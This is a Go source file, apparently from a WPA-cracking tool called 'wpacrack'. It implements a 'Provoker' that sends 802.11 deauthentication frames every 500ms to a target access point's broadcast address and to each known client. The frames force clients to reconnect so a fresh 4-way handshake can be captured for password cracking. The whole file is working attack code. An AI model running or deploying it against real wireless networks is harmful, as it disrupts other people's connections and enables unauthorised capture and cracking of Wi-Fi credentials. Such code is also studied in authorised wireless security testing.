package injection

import (
	"context"
	"fmt"
	"net"
	"sync/atomic"
	"time"

	"github.com/hashlock/wpacrack/internal/core/domain"
	"github.com/hashlock/wpacrack/internal/core/ports"
	"github.com/hashlock/wpacrack/internal/telemetry"
)

// broadcastMAC is the all-stations address used for untargeted deauth.
var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// burstInterval is how often a deauth round fires while provocation is
// active (spec §4.C: "roughly every 500ms").
const burstInterval = 500 * time.Millisecond

// Provoker actively sends deauthentication frames to force a connected
// client to re-associate, producing a fresh 4-way handshake for the
// assembler to capture. Grounded on the continuous-attack loop shape of
// internal/adapters/sniffer/deauth_engine.go's runAttack, reduced to the
// single fixed-interval burst this module's scope calls for.
type Provoker struct {
	out   ports.CaptureSource
	iface string
	sent  uint64
}

// NewProvoker wraps an already-open capture source for frame injection.
// iface labels the deauth_frames_sent_total metric; it need not be a real
// device name (e.g. pcap replay passes the trace path instead).
func NewProvoker(out ports.CaptureSource, iface string) *Provoker {
	return &Provoker{out: out, iface: iface}
}

// Run sends a deauth burst (broadcast plus one unicast frame per known
// client) every burstInterval until ctx is cancelled or a burst fails. A
// provocation round that panics (e.g. a malformed MAC) is recovered and
// returned as an ErrInternal error, which ends Run without taking down the
// capture loop.
func (p *Provoker) Run(ctx context.Context, bssid net.HardwareAddr, clients []net.HardwareAddr) error {
	ticker := time.NewTicker(burstInterval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return nil
		case <-ticker.C:
			if err := p.burst(bssid, clients); err != nil {
				return err
			}
		}
	}
}

func (p *Provoker) burst(bssid net.HardwareAddr, clients []net.HardwareAddr) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("%w: provocation burst panic: %v", domain.ErrInternal, r)
		}
	}()

	seq := uint16(atomic.AddUint64(&p.sent, 1))

	if frame, buildErr := SerializeDeauthPacket(broadcastMAC, bssid, bssid, 7, seq); buildErr == nil {
		if writeErr := p.out.WriteRaw(frame); writeErr != nil {
			return fmt.Errorf("%w: broadcast deauth: %v", domain.ErrCaptureTransient, writeErr)
		}
		telemetry.DeauthFramesSent.WithLabelValues(p.iface, "broadcast").Inc()
	}

	for _, client := range clients {
		frame, buildErr := SerializeDeauthPacket(client, bssid, bssid, 7, seq)
		if buildErr != nil {
			continue
		}
		if writeErr := p.out.WriteRaw(frame); writeErr != nil {
			return fmt.Errorf("%w: unicast deauth to %s: %v", domain.ErrCaptureTransient, client, writeErr)
		}
		telemetry.DeauthFramesSent.WithLabelValues(p.iface, "unicast").Inc()
	}
	return nil
}

// FramesSent returns the number of provocation rounds executed so far.
func (p *Provoker) FramesSent() uint64 {
	return atomic.LoadUint64(&p.sent)
}
